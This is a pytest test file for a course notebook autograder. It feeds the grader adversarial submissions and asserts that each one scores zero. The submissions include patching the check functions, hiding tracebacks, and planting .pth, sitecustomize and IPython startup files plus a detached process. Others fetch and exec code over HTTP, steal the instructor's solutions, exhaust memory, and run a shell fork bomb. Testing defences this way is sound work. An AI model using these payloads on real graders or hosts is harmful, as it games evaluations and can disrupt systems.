"""The real grader against submissions that want the marks without the work (issue 10).

Every submission is built from the real student notebook of lesson 04 (its import cell, its
solution cells and its check cells; the plots and timings are left out to keep this fast), graded
by ``coursekit.grading.grade_folder`` exactly as ``course.py grade`` does. Each attack is applied
to an *unsolved* notebook, so any point it earns is a point it stole. The course the grader guards
is a temporary copy, so an attack that gets through cannot damage the repository.
"""
from __future__ import annotations

import csv
import hashlib
import shutil
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from coursekit import grading

ROOT = Path(__file__).resolve().parents[1]
LESSON = "04_triplet_loss"
CHECKS = ("ex_triplet_loss_check", "ex_pairwise_distances_check")
# Until lesson 04 imports its checks and loop references from the exercise kit, point the old
# imports there (a no-op once the notebooks are updated).
OLD_IMPORT = "from course_utils import checks, losses, reference"
NEW_IMPORT = ("from course_utils import losses\nfrom course_utils.exercises import loop_references as reference\n"
              "import course_utils.exercises as checks")

WRONG_TRIPLET = '''from keras import ops
def triplet_loss(anchor, positive, negative, alpha=0.2):
    d_ap = ops.sqrt(ops.sum((anchor - positive) ** 2, axis=-1))
    d_an = ops.sqrt(ops.sum((anchor - negative) ** 2, axis=-1))
    return ops.mean(ops.maximum(d_ap - d_an + alpha, 0.0))
'''


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _fix(source: str) -> str:
    source = source.replace(OLD_IMPORT, NEW_IMPORT)
    if not (ROOT / "course_utils" / "checks.py").exists():
        source = source.replace("checks.check_pairwise_distances(", "checks.check_pairwise_squared_distances(")
    return source


def build(solve=(), replace=None, before_checks="", trim=True):
    """The student notebook of lesson 04: ``solve`` = solution grade_ids given the instructor's
    answer; ``replace`` = {grade_id: source}; ``before_checks``: a cell inserted before the first
    check. Returns a notebook."""
    nb = nbformat.read(ROOT / "notebooks" / f"{LESSON}.ipynb", as_version=4)
    sol = nbformat.read(ROOT / "solutions" / f"{LESSON}.ipynb", as_version=4)
    answers = {_gid(c): c.source for c in sol.cells if _gid(c)}
    cells, first_code, inserted = [], True, False
    for cell in nb.cells:
        gid = _gid(cell)
        if cell.cell_type != "code" or (trim and not first_code and not gid):
            continue
        first_code = False
        cell.source = _fix(cell.source)
        if gid in solve:
            cell.source = answers[gid]
        if replace and gid in replace:
            cell.source = replace[gid]
        if gid in CHECKS and before_checks and not inserted:
            cells.append(nbformat.v4.new_code_cell(before_checks))
            inserted = True
        cells.append(cell)
    nb.cells = cells
    return nb


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A temporary copy of the course (package + instructor notebooks) for the grader to guard."""
    root = tmp_path_factory.mktemp("course")
    shutil.copytree(ROOT / "course_utils", root / "course_utils",
                    ignore=shutil.ignore_patterns("__pycache__"))
    (root / "solutions").mkdir()
    sol = nbformat.read(ROOT / "solutions" / f"{LESSON}.ipynb", as_version=4)
    for cell in sol.cells:
        cell.source = _fix(cell.source)
    nbformat.write(sol, root / "solutions" / f"{LESSON}.ipynb")
    return root


def digest(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def grade(course, tmp_path, subs: dict, jobs=2, **kw):
    folder = tmp_path / "subs"
    for name, nb in subs.items():
        (folder / name).mkdir(parents=True)
        nbformat.write(nb, folder / name / f"{LESSON}.ipynb")
    kw.setdefault("cell_timeout", 120)
    rows = grading.grade_folder(folder, tmp_path / "grades.csv", solutions=course / "solutions",
                                course_root=course, jobs=jobs, **kw)
    return {r["student"]: r for r in rows}


BOTH = ("ex_triplet_loss", "ex_pairwise_distances")

ATTACKS = {
    # 1. the kernel ends itself in the first solution cell
    "exit": dict(replace={"ex_triplet_loss": "import os\nos._exit(0)"}),
    # 3. grading mode switched off from the notebook
    "grading_off": dict(before_checks="import os\nos.environ['COURSE_GRADING'] = '0'\n"
                                      "os.environ.pop('NBGRADER_EXECUTION', None)"),
    # 4. the course's own implementation, three ways
    "kit_import": dict(replace={"ex_triplet_loss": "from course_utils.exercises.solutions import triplet_loss",
                                "ex_pairwise_distances":
                                    "from course_utils.exercises.solutions import pairwise_squared_distances"}),
    "losses_import": dict(replace={"ex_triplet_loss": "from course_utils.losses import triplet_loss",
                                   "ex_pairwise_distances": "pairwise_squared_distances = losses.pairwise_squared_distances"}),
    "wrapped": dict(replace={
        "ex_triplet_loss": "def triplet_loss(a, p, n, alpha=0.2):\n    return losses.triplet_loss(a, p, n, alpha)",
        "ex_pairwise_distances": "def pairwise_squared_distances(e):\n"
                                 "    return ops.maximum(losses.pairwise_distances(e, squared=True), 0.0)"}),
    # 5. the checks replaced or shadowed
    "checks_patched": dict(before_checks="checks.check_triplet_loss = lambda f: f\n"
                                         "checks.check_pairwise_distances = lambda f: f\n"
                                         "import course_utils.exercises as kit\n"
                                         "for ex in kit.GRADED.values():\n"
                                         "    object.__setattr__(ex, 'judge', lambda *a, **k: True)"),
    "checks_shadowed": dict(before_checks="class checks:\n"
                                          "    check_triplet_loss = check_pairwise_distances = staticmethod(lambda f: f)"),
    # 6. tracebacks hidden
    "hooks": dict(before_checks="ip = get_ipython()\n"
                                "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                "ip.showtraceback = lambda *a, **k: None"),
    # flooding the output
    "flood": dict(before_checks="for _ in range(3000):\n    print('x' * 1000)"),
    # wave 3: the evidence is not in the kernel any more, so forging it gains nothing
    "record_cleared": dict(replace={
        "ex_triplet_loss": "import sys\ndef triplet_loss(a, p, n, alpha=0.2):\n"
                           "    out = losses.triplet_loss(a, p, n, alpha)\n"
                           "    record = sys.getprofile()\n"
                           "    getattr(record, 'calls', []).clear() if record else None\n    return out",
        "ex_pairwise_distances": "import sys\ndef pairwise_squared_distances(e):\n"
                                 "    out = losses.pairwise_squared_distances(e)\n"
                                 "    record = sys.getprofile()\n"
                                 "    getattr(record, 'calls', []).clear() if record else None\n    return out"}),
    "sys_dict": dict(before_checks="import sys\nsys.__dict__.update(setprofile=lambda *a: None, getprofile=lambda: None)",
                     replace={"ex_triplet_loss": "from course_utils.losses import triplet_loss",
                              "ex_pairwise_distances": "from course_utils.losses import pairwise_squared_distances"}),
    "frame_probe": dict(replace={"ex_triplet_loss": (
        "import sys\ndef triplet_loss(a, p, n, alpha=0.2):\n"
        "    names, f = set(), sys._getframe(1)\n"
        "    while f is not None:\n        names.add(f.f_code.co_filename); f = f.f_back\n"
        "    if any('probe' in x or 'ipython-input' in x or x.startswith('<') for x in names):\n"
        "        return losses.triplet_loss(a, p, n, alpha)\n"
        "    raise NotImplementedError()")}),
    "json_patch": dict(before_checks="import json\n_dumps = json.dumps\n"
                                     "def forged(o, *a, **k):\n"
                                     "    if isinstance(o, dict):\n        o = {**o, 'calls': None}\n"
                                     "    return _dumps(o, *a, **k)\n"
                                     "json.__dict__['dumps'] = forged",
                       replace={"ex_triplet_loss": "from course_utils.losses import triplet_loss",
                                "ex_pairwise_distances": "from course_utils.losses import pairwise_squared_distances"}),
    "thread": dict(replace={"ex_triplet_loss": (
        "import threading\ndef triplet_loss(a, p, n, alpha=0.2):\n    box = {}\n"
        "    t = threading.Thread(target=lambda: box.update(v=losses.triplet_loss(a, p, n, alpha)))\n"
        "    t.start(); t.join()\n    return box['v']")}),
    "loop_reference": dict(replace={"ex_triplet_loss": (
        "import numpy as np\ndef triplet_loss(a, p, n, alpha=0.2):\n"
        "    return ops.convert_to_tensor(loop_references.triplet_loss_loop(np.asarray(a), np.asarray(p), np.asarray(n), alpha))")}),
}

# Attacks that need the OS sandbox to fail: the instructor's files are simply not there, and there
# is no network. {solutions} and {port} are filled in by the test.
STEAL = ("import json\nnb = json.load(open({solutions!r}))\n"
         "for cell in nb['cells']:\n"
         "    if cell.get('metadata', {{}}).get('nbgrader', {{}}).get('grade_id') in ('ex_triplet_loss', 'ex_pairwise_distances'):\n"
         "        exec(''.join(cell['source']))")
FETCH = ("import urllib.request\n"
         "exec(urllib.request.urlopen('http://127.0.0.1:{port}/answer.py', timeout=5).read().decode())")


def test_honest_work_and_attacks(course, tmp_path):
    subs = {"solved": build(solve=BOTH), "unsolved": build(), "half": build(solve=("ex_triplet_loss",)),
            "wrong": build(replace={"ex_triplet_loss": WRONG_TRIPLET}, solve=("ex_pairwise_distances",)),
            # 2. a cell that never returns: interrupted, and the later check still scores on merit
            "sleep": build(replace={"ex_triplet_loss": "import time\ntime.sleep(10**6)"},
                           solve=("ex_pairwise_distances",)),
            # ... and one that ignores the interrupt: the kernel is stopped, the rest scores 0
            "loop": build(replace={"ex_triplet_loss": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                      "while True:\n    pass"}, solve=("ex_pairwise_distances",))}
    subs.update({name: build(**spec) for name, spec in ATTACKS.items()})
    before = digest(course)
    # 120 s: a busy CI machine. Four kernels at once: two of them ("sleep", "loop") only wait
    # for that timeout, so the other two keep the cores busy meanwhile.
    by = grade(course, tmp_path, subs, jobs=4, cell_timeout=120, output_cap=500_000)
    assert by["solved"]["total"] == 4 and by["solved"]["max"] == 4
    assert by["unsolved"]["total"] == 0
    assert by["half"]["ex_triplet_loss_check"] == 2 and by["half"]["total"] == 2
    assert by["wrong"]["ex_triplet_loss_check"] == 0 and by["wrong"]["ex_pairwise_distances_check"] == 2
    assert by["sleep"]["ex_triplet_loss_check"] == 0 and by["sleep"]["ex_pairwise_distances_check"] == 2
    assert "interrupted" in by["sleep"]["status"]
    assert by["loop"]["total"] == 0 and "ignored the interrupt" in by["loop"]["status"]
    for name in ATTACKS:
        assert by[name]["total"] == 0, (name, by[name])
    assert "kernel died" in by["exit"]["status"]
    assert "output limit" in by["flood"]["status"]
    assert "process exit" in by["exit"]["review"] and "environment change" in by["grading_off"]["review"]
    assert "course internals" in by["kit_import"]["review"] and "IPython" in by["hooks"]["review"]
    # Where the host has no bubblewrap every row says so, and that is the only flag honest work gets.
    unconfined = "" if grading.bwrap.available() else f"graded WITHOUT the OS sandbox: {grading.bwrap.problem()}"
    assert by["solved"]["review"] == unconfined and by["unsolved"]["review"] == unconfined
    # feedback: the student's message, short, no internal paths
    wrong = (tmp_path / "feedback" / "wrong" / f"{LESSON}.md").read_text()
    assert "Likely mistake" in wrong and "course_utils/" not in wrong and "Traceback" not in wrong
    assert "course's own implementation" in (tmp_path / "feedback" / "wrapped" / f"{LESSON}.md").read_text()
    assert digest(course) == before
    with open(tmp_path / "grades.csv") as f:
        table = {r["student"]: r for r in csv.DictReader(f)}
    assert {k: float(r["total"]) for k, r in table.items()} == {k: r["total"] for k, r in by.items()}
    assert "4 / 4" in (tmp_path / "feedback" / "solved" / f"{LESSON}.md").read_text()
    assert "not implemented" in (tmp_path / "feedback" / "unsolved" / f"{LESSON}.md").read_text()


PERSIST = '''import os, site, subprocess, sys
tried = []
def attempt(what, fn):
    try:
        fn(); tried.append(what + ": done")
    except Exception as err:
        tried.append(f"{{what}}: {{type(err).__name__}}")
root = {root!r}
attempt("solutions", lambda: open(os.path.join(root, "solutions", "04_triplet_loss.ipynb"), "w").write("{{}}"))
attempt("kit", lambda: open(os.path.join(root, "course_utils", "exercises", "lesson04_triplet_loss.py"), "a")
        .write("\\nraise SystemExit('tampered')\\n"))
attempt("package", lambda: open(os.path.join(os.path.dirname(losses.__file__), "planted.py"), "w").write("x = 1\\n"))
forge = "import builtins; builtins.FORGED = True\\n"
for folder in site.getsitepackages():
    attempt(".pth", lambda: open(os.path.join(folder, "zz_forge.pth"), "w").write("import builtins; builtins.FORGED = True\\n"))
    attempt("sitecustomize", lambda: open(os.path.join(folder, "sitecustomize.py"), "w").write(forge))
startup = os.path.expanduser("~/.ipython/profile_default/startup")
attempt("ipython", lambda: (os.makedirs(startup, exist_ok=True), open(os.path.join(startup, "00-forge.py"), "w").write(forge)))
attempt("cache", lambda: open(os.path.join(os.environ.get("COURSE_DATA_DIR", "."), "forged.npz"), "w").write("x"))
attempt("tmp", lambda: open("/tmp/forged-{marker}", "w").write("x"))
# a process that outlives grading: own session, empty environment, another working directory,
# double-forked so that it is nobody's child; {marker} is in its command line
code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\ntime.sleep(600)  # {marker}"
subprocess.Popen([sys.executable, "-c", code], env={{}}, cwd="/", start_new_session=True)
import time; time.sleep(2)
print(tried)
'''


def _site_packages() -> dict:
    import site
    return {str(p) for folder in site.getsitepackages() for p in Path(folder).iterdir()}


def _marked(marker: str) -> list:
    found = []
    for proc in psutil.process_iter(["cmdline", "status"]):
        try:
            if any(marker in part for part in proc.info["cmdline"] or []) and proc.info["status"] != "zombie":
                found.append(proc.pid)
        except psutil.Error:
            continue
    return found


needs_sandbox = pytest.mark.skipif(not grading.bwrap.available(),
                                   reason=f"no OS sandbox here: {grading.bwrap.problem()}")


@needs_sandbox
def test_a_submission_cannot_change_later_grades(course, tmp_path):
    """A plants files everywhere a later kernel (or the grader) would read them, and leaves a
    process behind; the honest B and C graded after it, one at a time, score on their merits."""
    import secrets
    marker = "forged-" + secrets.token_hex(6)
    before, site_before = digest(course), _site_packages()
    subs = {"a_plant": build(before_checks=PERSIST.format(root=str(course), marker=marker)),
            "b_later_unsolved": build(), "c_later_half": build(solve=("ex_triplet_loss",))}
    by = grade(course, tmp_path, subs, jobs=1, seed_data=False)
    assert by["a_plant"]["total"] == 0 and "interpreter start-up files" in by["a_plant"]["review"]
    assert by["b_later_unsolved"]["total"] == 0 and by["b_later_unsolved"]["review"] == ""
    assert by["c_later_half"]["total"] == 2
    assert digest(course) == before and _site_packages() == site_before
    assert not Path(f"/tmp/forged-{marker}").exists()
    import builtins
    assert not hasattr(builtins, "FORGED")
    deadline = time.time() + 5
    while time.time() < deadline and _marked(marker):
        time.sleep(0.2)
    assert _marked(marker) == []


@needs_sandbox
def test_what_only_the_sandbox_stops(course, tmp_path):
    """Reading the instructor's notebook, fetching the answer from the network, exhausting the
    memory, and a fork bomb (where the host allows a process cap): 0 points each, and the honest
    submission graded beside them still gets its marks."""
    import http.server
    import threading
    served = tmp_path / "served"
    served.mkdir()
    sol = nbformat.read(course / "solutions" / f"{LESSON}.ipynb", as_version=4)
    (served / "answer.py").write_text("\n".join(c.source for c in sol.cells if _gid(c) in BOTH))
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(*a, directory=str(served), **k)  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        subs = {"steal": build(replace={"ex_triplet_loss": STEAL.format(solutions=str(course / "solutions" / f"{LESSON}.ipynb")),
                                        "ex_pairwise_distances": "pass"}),
                "steal_repo": build(replace={"ex_triplet_loss": STEAL.format(solutions=str(ROOT / "solutions" / f"{LESSON}.ipynb")),
                                             "ex_pairwise_distances": "pass"}),
                "fetch": build(replace={"ex_triplet_loss": FETCH.format(port=server.server_address[1]),
                                        "ex_pairwise_distances": "pass"}),
                "memory": build(before_checks="import numpy as np\nhog = [np.ones(2**27) for _ in range(10**4)]"),
                "solved": build(solve=BOTH)}
        if grading.bwrap.task_cap_problem() is None:     # unbounded, a fork bomb would take the host
            subs["fork"] = build(before_checks="import os\nos.system('f(){ f | f & }; f')")
        by = grade(course, tmp_path, subs, jobs=2)
    finally:
        server.shutdown()
    for name in ("steal", "steal_repo", "fetch", "memory", "fork"):
        assert name not in subs or by[name]["total"] == 0, (name, by[name])
    assert by["solved"]["total"] == 4
    assert "graded WITHOUT" not in by["solved"]["review"]
